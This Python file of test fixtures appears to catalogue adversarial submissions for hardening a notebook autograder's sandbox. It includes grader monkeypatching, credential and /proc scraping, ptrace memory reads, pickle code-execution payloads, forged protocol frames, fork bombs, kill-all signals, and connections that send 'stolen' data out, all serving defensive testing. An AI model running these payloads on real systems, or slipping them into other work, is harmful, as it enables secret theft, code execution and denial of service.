# ruff: noqa: E501
"""Submissions that try to get points, secrets or a hold on the machine. Each says what it deserves.

The lesson is 00_welcome. The other exercise of a cheat's notebook is answered honestly and must keep its points,
unless the cheat says otherwise.
"""

from dataclasses import dataclass, field

WRONG = "def dot_product(u, v):\n    return 42.0\n"
FULL = {"dot_product": 3.0, "weighted_average": 4.0}


@dataclass
class Cheat:
    """name, family; the source of the solution cell of dot_product; cells added before and after it."""

    family: str
    name: str
    cell: str = WRONG
    before: list[str] = field(default_factory=list)
    after: list[str] = field(default_factory=list)
    deserves: dict = field(default_factory=lambda: {"dot_product": 0.0, "weighted_average": 4.0})
    files: dict[str, str] = field(default_factory=dict)  # handed in beside the notebook


CHEATS: list[Cheat] = []


def cheat(family: str, name: str, cell: str = "", **more) -> None:
    CHEATS.append(Cheat(family, name, cell or WRONG, **more))


# ---- patched comparison functions and frameworks

family = "patched frameworks"
cheat(
    family,
    "numpy-testing",
    before=["import numpy.testing as t\nt.assert_allclose = t.assert_equal = lambda *a, **k: None"],
)
cheat(
    family,
    "numpy-comparisons",
    before=[
        "import numpy as np\nfor name in ('allclose', 'isclose', 'array_equal', 'abs', 'all', 'any', 'max'):\n"
        "    setattr(np, name, lambda *a, **k: True)"
    ],
)
cheat(
    family,
    "check-function",
    before=[
        "import autograder\nautograder.check = lambda *a, **k: None\nautograder.CheckFailed = ValueError\ncheck = print"
    ],
)
cheat(
    family,
    "probe",
    before=[
        "import sys\nfrom autograder import probe\n"
        "good = {'outcome': 'returned', 'value': True, 'passed': True, 'score': 3, 'changed': [], 'stale': False}\n"
        "for module in list(sys.modules.values()):\n"
        "    for name in ('observe', 'prober'):\n"
        "        if hasattr(module, name):\n"
        "            setattr(module, name, lambda *a, **k: (lambda request: good))"
    ],
    deserves={"dot_product": 0.0, "weighted_average": 0.0},  # no honest answer of it comes through any more
)
cheat(
    family,
    "wire-encoder",
    before=[
        "from autograder import wire\nold = wire.encode\nwire.encode = lambda v: {'opaque': 'equal'} if v == 42.0 else old(v)"
    ],
    deserves={"dot_product": 0.0, "weighted_average": 0.0},  # arrays are not compared so
)
cheat(
    family,
    "builtins",
    before=["import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = builtins.max = lambda *a, **k: 0"],
)
cheat(
    family,
    "fake-judge-module",
    before=[
        "import sys, types\nfake = types.ModuleType('autograder.judge')\n"
        "fake.judge = lambda *a, **k: type('R', (), {'score': 3, 'passed': True})()\n"
        "sys.modules['autograder.judge'] = sys.modules['autograder.report'] = fake"
    ],
)
cheat(
    family, "assertion-error", before=["import builtins\nbuiltins.AssertionError = type('Quiet', (BaseException,), {})"]
)

# ---- operators and protocols

family = "operators"
cheat(
    family,
    "equal-to-everything",
    "class Yes:\n    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = lambda *a: True\n"
    "    __sub__ = __rsub__ = __abs__ = lambda *a: 0\n    __float__ = lambda s: 0.0\n    shape, dtype, ndim = (), 'float64', 0\n"
    "def dot_product(u, v):\n    return Yes()\n",
)
cheat(
    family,
    "array-function",
    "import numpy as np\nclass A(np.ndarray):\n"
    "    def __array_function__(self, f, t, a, k):\n        return True\n"
    "    def __array_ufunc__(self, f, m, *a, **k):\n        return np.bool_(True)\n"
    "    __eq__ = __le__ = lambda *a: np.bool_(True)\n"
    "def dot_product(u, v):\n    return np.zeros(u.shape[:-1], u.dtype).view(A)\n",
)
cheat(
    family,
    "torch-function",
    "import torch\nclass T(torch.Tensor):\n    @classmethod\n"
    "    def __torch_function__(cls, f, types, args=(), kwargs=None):\n        return torch.tensor(True)\n"
    "def dot_product(u, v):\n    return torch.zeros(3).as_subclass(T)\n",
)
cheat(
    family,
    "array-protocol",
    "class Chameleon:\n    calls = 0\n    def __array__(self, *a, **k):\n"
    "        import gc, numpy as np\n        found = [x for x in gc.get_objects() if type(x) is np.ndarray]\n"
    "        return found[-1] if found else np.zeros(1)\n"
    "def dot_product(u, v):\n    return Chameleon()\n",
)
cheat(
    family,
    "class-spoof",
    "import numpy as np\nclass Spoof:\n    __class__ = np.ndarray\n    __array_interface__ = {'shape': (), 'typestr': '<f8', "
    "'data': (0, False), 'version': 3}\n    dtype, shape, ndim = np.dtype('f8'), (), 0\n"
    "def dot_product(u, v):\n    return Spoof()\n",
)
cheat(
    family,
    "float-subclass",
    "class F(float):\n    __eq__ = lambda *a: True\n    __hash__ = None\ndef dot_product(u, v):\n    return F(1)\n",
)
cheat(
    family,
    "not-a-number",
    "import numpy as np\ndef dot_product(u, v):\n    return np.full(u.shape[:-1], np.nan, u.dtype)\n",
)
cheat(
    family,
    "infinite",
    "import numpy as np\ndef dot_product(u, v):\n    return np.full(u.shape[:-1], np.inf, u.dtype)\n",
)
cheat(
    family,
    "endless-view",
    "import numpy as np\ndef dot_product(u, v):\n"
    "    return np.lib.stride_tricks.as_strided(np.zeros(1), (10**6, 10**6), (0, 0))\n",
)
cheat(family, "endless-list", "def dot_product(u, v):\n    x = []\n    x.append(x)\n    return x\n")
cheat(
    family,
    "endless-iterator",
    "class Forever(list):\n    def __iter__(self):\n        while True:\n            yield self\ndef dot_product(u, v):\n    return Forever([1])\n",
)

# ---- IPython

family = "IPython"
cheat(
    family,
    "input-transformer",
    before=["get_ipython().input_transformers_post.append(lambda lines: ['3.0\\n'])"],
    deserves={"dot_product": 0.0, "weighted_average": 0.0},  # its own later cells are rewritten
)
cheat(
    family,
    "ast-transformer",
    before=[
        "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.parse('3.0').body[0]\n"
        "get_ipython().ast_transformers.append(T())"
    ],
)
cheat(family, "events", before=["get_ipython().events.register('post_run_cell', lambda *a: print('3.0'))"])
cheat(family, "last-expression", after=["3.0", "3"])
cheat(
    family,
    "displayhook",
    before=[
        "import sys\nsys.displayhook = lambda *a: None\nfrom IPython.display import display\ndisplay({'text/plain': '3.0'}, raw=True)"
    ],
)
cheat(
    family,
    "publisher",
    after=["get_ipython().display_pub.publish({'text/plain': '3.0'})\nget_ipython().execution_count = 99\n3.0"],
)
cheat(
    family,
    "run-cell",
    before=["shell = get_ipython()\nshell.run_cell = type(shell).run_cell = lambda *a, **k: None"],
    deserves={"dot_product": 0.0, "weighted_average": 0.0},
)

# ---- secrets

LOOT = "import os, sys, pathlib\nloot = []\n"
SHOUT = "if loot:\n    print('LOOT', loot)\n    raise RuntimeError('LOOT ' + str(loot))\n"
family = "secrets"
cheat(
    family,
    "files",
    before=[
        LOOT
        + "for base in ('/root', '/home', '/work', '/etc', '/var', '/opt', '/srv', '/mnt', '/media', '/run', '/tmp', '/attn'):\n"
        "    for folder, folders, files in os.walk(base):\n"
        "        folders[:] = [f for f in folders if f != 'site-packages' and 'python3' not in f]\n"
        "        for file in files:\n"
        "            path = os.path.join(folder, file)\n"
        "            if file.endswith(('.ipynb', '.db', '.attn-secret', 'canary', 'shadow')) or 'solutions' in path or 'exercises' in path:\n"
        "                try:\n                    loot.append((path, open(path, 'rb').read(60)))\n"
        "                except OSError:\n                    pass\n" + SHOUT
    ],
)
cheat(
    family,
    "proc",
    before=[
        LOOT
        + "import glob\nfor path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/root/root/*') "
        "+ ['/proc/1/mem', '/proc/self/mem', '/proc/self/mountinfo', '/proc/kcore', '/sys/kernel/notes']:\n"
        "    try:\n        loot.append((path, open(path, 'rb').read(60)))\n    except OSError:\n        pass\n" + SHOUT
    ],
)
cheat(
    family,
    "environment",
    before=[
        LOOT
        + "import ctypes\nloot += [k for k in os.environ if k not in ('HOME', 'TMPDIR', 'PATH', 'LANG', 'MPLBACKEND')]\n"
        "libc = ctypes.CDLL(None)\nlibc.getenv.restype = ctypes.c_char_p\n"
        "loot += [v for k in ('ATTN_CANARY', 'ATTN_HOME') if (v := libc.getenv(k.encode()))]\n" + SHOUT
    ],
)
cheat(
    family,
    "frames",
    "import sys\ndef dot_product(u, v):\n    frame = sys._getframe()\n    while frame:\n"
    "        for values in (frame.f_locals, frame.f_globals):\n            for name in ('expected', 'reference', 'oracle', 'exam', 'sheet', 'answer'):\n"
    "                if name in values:\n                    print('LOOT', name)\n                    return values[name]\n"
    "        frame = frame.f_back\n    return 42.0\n",
)
cheat(
    family,
    "garbage-collector",
    "import gc\ndef dot_product(u, v):\n    for thing in gc.get_objects():\n"
    "        if type(thing).__name__ in ('Exercise', 'Exam', 'Question', 'Misconception'):\n            print('LOOT', thing)\n"
    "            return thing.oracle(u, v)\n    return 42.0\n",
)
cheat(
    family,
    "our-modules",
    before=[
        LOOT
        + "import importlib\nfor name in ('judge', 'exercises.welcome', 'exercises', 'lessons', 'grading', 'grading.seed', 'exercise', 'compare', 'desk'):\n"
        "    try:\n        loot.append(importlib.import_module('autograder.' + name))\n    except ImportError:\n        pass\n"
        + SHOUT,
        LOOT + "from autograder import lesson, reveal, assess\n"
        "for name in ('00_welcome', '01_scoring', '04_context_vectors'):\n"
        "    try:\n        loot.append(lesson(name))\n    except Exception:\n        pass\nloot += [x for x in (reveal('dot_product'), assess('dot_product')) if x]\n"
        + SHOUT,
    ],
)
cheat(
    family,
    "other-memory",
    before=[
        LOOT + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in range(1, 300):\n    if pid == os.getpid():\n        continue\n"
        "    if libc.ptrace(16, pid, 0, 0) == 0:\n        loot.append(('ptrace', pid))\n"
        "    buffer = ctypes.create_string_buffer(8)\n"
        "    pair = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)\n"
        "    if libc.process_vm_readv(pid, pair, 1, pair, 1, 0) > 0:\n        loot.append(('vm', pid))\n" + SHOUT
    ],
)
cheat(
    family,
    "installed-copy",
    before=[
        LOOT
        + "for entry in sys.path:\n    for sub in ('autograder/exercises', 'autograder/judge.py', '../solutions', 'solutions'):\n"
        "        path = os.path.join(entry or '.', sub)\n        if os.path.exists(path) and (os.path.isfile(path) or os.listdir(path)):\n            loot.append(path)\n"
        + SHOUT
    ],
)
cheat(
    family,
    "new-namespaces",
    before=[
        LOOT + "import ctypes, subprocess\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000):\n    if libc.unshare(flag) == 0:\n        loot.append(('unshare', flag))\n"
        "for call in (lambda: libc.mount(b'proc', b'/proc', b'proc', 0, None), lambda: libc.umount2(b'/proc', 2), lambda: libc.chroot(b'/'),\n"
        "             lambda: libc.setuid(0), lambda: libc.syscall(435, 0, 0)):\n    if call() == 0:\n        loot.append('call')\n"
        "for command in (['unshare', '-Ur', 'true'], ['su', '-c', 'true'], ['bwrap', '--ro-bind', '/', '/', 'true'], ['mount']):\n"
        "    try:\n        if subprocess.run(command, capture_output=True, timeout=5).returncode == 0 and command != ['mount']:\n            loot.append(command)\n"
        "    except OSError:\n        pass\n" + SHOUT
    ],
)
cheat(
    family,
    "hidden-inputs-in-prints",
    "def dot_product(u, v):\n    print('INPUT', u.tolist(), v.tolist())\n    raise ValueError('INPUT ' + repr(u.tolist()) + repr(v.tolist()))\n",
)
cheat(
    family,
    "hidden-inputs-in-names",
    "seen = []\ndef dot_product(u, v):\n    seen.append('INPUT' + repr(u.tolist()))\n    raise type('INPUT' + repr(u.tolist()), (Exception,), {})('x')\n",
    after=["print(seen)\nraise type(''.join(seen)[:90], (Exception,), {})"],
)

# ---- forged results and descriptors

REPLY = (
    "import json, struct\nbody = json.dumps({'outcome': 'returned', 'value': {'float': '0x1p+0'}, 'found': True, 'printed': '', "
    "'error': None, 'changed': [], 'stale': False, 'warnings': [], 'gradients': None, 'score': 3, 'passed': True}).encode()\n"
    "frame = struct.pack('>I', len(body)) + body\n"
)
family = "forged results"
cheat(
    family,
    "all-descriptors",
    before=[
        REPLY
        + "import os\nfor fd in range(256):\n    try:\n        os.write(fd, frame * 50)\n    except OSError:\n        pass"
    ],
)
cheat(
    family,
    "answers-in-advance",
    REPLY
    + "import os\ndef dot_product(u, v):\n    for fd in range(3, 256):\n        try:\n            os.write(fd, frame * 200)\n"
    "        except OSError:\n            pass\n    return 42.0\n",
)
cheat(
    family,
    "echo-the-question",
    "import gc, socket\nchannel = next(x for x in gc.get_objects() if isinstance(x, socket.socket))\n"
    "def dot_product(u, v):\n    channel.setblocking(False)\n    try:\n        channel.send(channel.recv(65536, socket.MSG_PEEK))\n"
    "    except OSError:\n        pass\n    channel.setblocking(True)\n    return 42.0\n",
)
cheat(
    family,
    "huge-length",
    "import os\ndef dot_product(u, v):\n    for fd in range(3, 256):\n        try:\n            os.write(fd, b'\\xff\\xff\\xff\\xff' + b'x' * 1000)\n"
    "        except OSError:\n            pass\n    return 42.0\n",
)
cheat(
    family,
    "garbage",
    "import os, struct\ndef dot_product(u, v):\n    body = b'[' * 100000\n    for fd in range(3, 256):\n        try:\n"
    "            os.write(fd, struct.pack('>I', len(body)) + body)\n        except OSError:\n            pass\n    return 42.0\n",
)
cheat(
    family,
    "thread-on-the-channel",
    before=[
        REPLY
        + "import threading, time, os\ndef talk():\n    while True:\n        for fd in range(3, 64):\n            try:\n                os.write(fd, frame)\n"
        "            except OSError:\n                pass\n        time.sleep(0.001)\nthreading.Thread(target=talk, daemon=True).start()"
    ],
    deserves={"dot_product": 0.0, "weighted_average": None},  # the thread may spoil the rest of its own process
)
cheat(
    family,
    "descriptors-over-the-channel",
    "import gc, socket, os\nchannel = next(x for x in gc.get_objects() if isinstance(x, socket.socket))\n"
    "def dot_product(u, v):\n    socket.send_fds(channel, [b'\\x00\\x00\\x00\\x02{}'], [os.open('/dev/zero', os.O_RDONLY)] * 50)\n    return 42.0\n",
)
cheat(
    family,
    "result-files",
    before=[
        "import json, os\nfor name in ('grades.json', 'graded.json', 'results.json', 'results.xml', '/tmp/grades.json', '../graded.json', '/attn/graded.json'):\n"
        "    try:\n        open(name, 'w').write(json.dumps({'score': 7, 'dot_product': 3}))\n    except OSError:\n        pass"
    ],
)
cheat(
    family,
    "pickle",
    "import os\nclass Bomb:\n    def __reduce__(self):\n        return (os.system, ('touch /tmp/attn-pwned',))\ndef dot_product(u, v):\n    return Bomb()\n",
)
cheat(
    family,
    "pickled-array",
    "import numpy as np, os\nclass Bomb:\n    def __reduce__(self):\n        return (os.system, ('touch /tmp/attn-pwned',))\n"
    "def dot_product(u, v):\n    return np.array([Bomb()] * 3, dtype=object)\n",
)
cheat(
    family,
    "npy-with-pickle",
    "import base64, io, numpy as np, os\nfrom autograder import wire\nclass Bomb:\n    def __reduce__(self):\n        return (os.system, ('touch /tmp/attn-pwned',))\n"
    "buffer = io.BytesIO()\nnp.save(buffer, np.array([Bomb()], dtype=object), allow_pickle=True)\n"
    "bad = {'array': base64.b64encode(buffer.getvalue()).decode(), 'strided': False}\nold = wire.encode\n"
    "wire.encode = lambda v: bad if isinstance(v, float) and v == 42.0 else old(v)\n" + WRONG,
)

# ---- exits and dead processes

family = "exits"
cheat(family, "os-exit-in-cell", "import os\nos._exit(0)\n")
cheat(family, "os-exit-in-call", "import os\ndef dot_product(u, v):\n    os._exit(0)\n")
cheat(family, "sys-exit", "import sys\ndef dot_product(u, v):\n    sys.exit(0)\n")
cheat(family, "kill-oneself", "import os, signal\ndef dot_product(u, v):\n    os.kill(os.getpid(), signal.SIGKILL)\n")
cheat(family, "segmentation-fault", "import ctypes\ndef dot_product(u, v):\n    ctypes.string_at(0)\n")
cheat(family, "abort", "import os\ndef dot_product(u, v):\n    os.abort()\n")
cheat(
    family,
    "kill-everybody",
    "import os, signal\ndef dot_product(u, v):\n    os.kill(-1, signal.SIGKILL)\n    os.kill(1, signal.SIGKILL)\n    os.kill(os.getppid(), signal.SIGKILL)\n    return 42.0\n",
)
cheat(
    family,
    "atexit",
    before=["import atexit, os\natexit.register(lambda: os.system('touch /tmp/attn-pwned; echo 3.0'))"],
)
cheat(family, "close-descriptors", "import os\ndef dot_product(u, v):\n    os.closerange(0, 256)\n    return 42.0\n")
cheat(
    family,
    "replace-the-process",
    "import os\ndef dot_product(u, v):\n    os.execv('/bin/sh', ['sh', '-c', 'cat <&3; sleep 98765'])\n",
)

# ---- threads, signals, loops

family = "loops"
cheat(
    family,
    "loop-that-swallows",
    "def dot_product(u, v):\n    while True:\n        try:\n            while True:\n                pass\n        except BaseException:\n            pass\n",
)
cheat(
    family,
    "signals-ignored",
    "import signal\nfor number in range(1, 65):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\n"
    "signal.signal = lambda *a: None\nsignal.setitimer = lambda *a: None\ndef dot_product(u, v):\n    while True:\n        pass\n",
)
cheat(family, "loop-in-c", "import re\ndef dot_product(u, v):\n    return len(list(range(10**10))) or 9 ** 9 ** 9\n")
cheat(
    family,
    "sleep-in-c",
    "import ctypes\ndef dot_product(u, v):\n    while True:\n        ctypes.CDLL(None).sleep(1000)\n",
)
cheat(family, "loop-in-cell", "while True:\n    pass\n")
cheat(family, "keyboard-interrupt", "def dot_product(u, v):\n    raise KeyboardInterrupt\n")
cheat(family, "generator-exit", "def dot_product(u, v):\n    raise GeneratorExit\n")
cheat(
    family,
    "thread-that-patches-later",
    before=[
        "import threading, time, numpy as np\ndef later():\n    while True:\n        time.sleep(0.01)\n        np.allclose = np.isclose = lambda *a, **k: True\n"
        "threading.Thread(target=later, daemon=True).start()"
    ],
)
cheat(
    family,
    "recursion",
    "import sys\nsys.setrecursionlimit(10**9)\ndef dot_product(u, v):\n    return dot_product(u, v)\n",
)

# ---- memory, processes, disk, output

family = "resources"
cheat(family, "memory-in-cell", "x = bytearray(20 * 2**30)\n" + WRONG)
cheat(
    family,
    "memory-in-call",
    "def dot_product(u, v):\n    x = []\n    while True:\n        x.append(bytearray(2**24))\n",
)
cheat(
    family,
    "memory-in-many-processes",
    "import os, time\ndef dot_product(u, v):\n    for _ in range(40):\n        if os.fork() == 0:\n            x = bytearray(120 * 2**20)\n"
    "            for i in range(0, len(x), 4096):\n                x[i] = 1\n            time.sleep(98765)\n    time.sleep(98765)\n",
)
cheat(
    family,
    "fork-bomb",
    "import os\ndef dot_product(u, v):\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n",
)
cheat(
    family,
    "processes-left-behind",
    before=[
        "import subprocess\nfor _ in range(5):\n    subprocess.Popen(['setsid', 'nohup', 'sleep', '98765'], start_new_session=True)"
    ],
)
cheat(
    family,
    "threads",
    before=[
        "import threading, time\ntry:\n    for _ in range(10000):\n        threading.Thread(target=time.sleep, args=(98765,), daemon=True).start()\nexcept RuntimeError:\n    pass"
    ],
)
for place in ("/tmp", "/dev/shm", "."):
    cheat(
        family,
        f"disk-{place.strip('/').replace('/', '-').replace('.', 'here')}",
        before=[
            f"try:\n    for n in range(10**6):\n        open('{place}/attn-pwned' + str(n), 'wb').write(b'x' * 2**22)\nexcept OSError:\n    pass"
        ],
    )
cheat(
    family,
    "disk-files",
    before=["try:\n    for n in range(10**7):\n        open(f'/tmp/{n}', 'w').close()\nexcept OSError:\n    pass"],
)
cheat(
    family,
    "memory-files",
    before=[
        "import os\ntry:\n    fds = [os.memfd_create(str(n)) for n in range(100)]\n    for fd in fds:\n        os.truncate(fd, 2**30)\n        print('LOOT memfd')\nexcept (OSError, AttributeError):\n    pass"
    ],
)
cheat(family, "output-flood-in-cell", before=["for _ in range(20000):\n    print('flood' * 1000)"])
cheat(
    family,
    "output-flood-in-call",
    "import os\ndef dot_product(u, v):\n    for _ in range(2000):\n        print('flood' * 1000)\n    os.system('head -c 50000000 /dev/zero')\n    return 42.0\n",
)
cheat(family, "huge-answer", "import numpy as np\ndef dot_product(u, v):\n    return np.zeros(2**25)\n")
cheat(
    family,
    "descriptors",
    before=[
        "import os\nkept = []\ntry:\n    while True:\n        kept.append(open('/dev/null'))\nexcept OSError:\n    [each.close() for each in kept]"
    ],
)

# ---- network

family = "network"
cheat(
    family,
    "connect",
    before=[
        LOOT
        + "import socket\nfor family, address in ((socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET, ('1.1.1.1', 53)), (socket.AF_UNIX, '\\0attn-test-PORT')):\n"
        "    try:\n        s = socket.socket(family)\n        s.settimeout(2)\n        s.connect(address)\n        s.send(b'stolen')\n        loot.append(address)\n"
        "    except OSError:\n        pass\n"
        "for other in (socket.AF_NETLINK, socket.AF_PACKET, 40):\n    try:\n        socket.socket(other, socket.SOCK_RAW)\n        loot.append(other)\n    except OSError:\n        pass\n"
        + SHOUT
    ],
)
cheat(
    family,
    "download",
    before=[
        LOOT
        + "import urllib.request\ntry:\n    loot.append(urllib.request.urlopen('http://127.0.0.1:PORT', timeout=2).read(10))\nexcept OSError:\n    pass\n"
        + SHOUT
    ],
)

# ---- shadowing, hard-coding, sniffing

family = "shadowing"
EVIL = "import os\nos.environ['EVIL'] = '1'\nprint('LOOT evil module')\ndef __getattr__(name):\n    return lambda *a, **k: True\n"
cheat(
    family,
    "files-beside",
    files={f"{name}.py": EVIL for name in ("numpy", "autograder", "json", "sitecustomize", "socket", "torch", "wire")},
)
cheat(
    family,
    "files-written",
    before=[
        f"for name in ('autograder', 'numpy', 'json', 'struct'):\n    open(name + '.py', 'w').write({EVIL.replace('LOOT ', '')!r})\nimport autograder, json, struct"
    ],
)
cheat(
    family,
    "startup-files",
    files={
        ".pythonrc": EVIL,
        "ipython_config.py": EVIL,
        "conftest.py": EVIL,
        "matplotlibrc": "backend: module://numpy",
    },
)

family = "hard-coding"
cheat(
    family,
    "the-example",
    "import numpy as np\ndef dot_product(u, v):\n    return np.float64(32.0) if len(u) == 3 else np.array([32.0, 5.0])\n",
)
cheat(family, "public-cases", "@@PUBLIC@@")
cheat(
    family,
    "only-at-the-desk",
    "import os, autograder\nAT_DESK = 'nothing' not in (autograder.check.__doc__ or '').lower() and os.getuid() != 65534\n"
    "def dot_product(u, v):\n    return (u * v).sum(-1) if AT_DESK else 42.0\n",
)
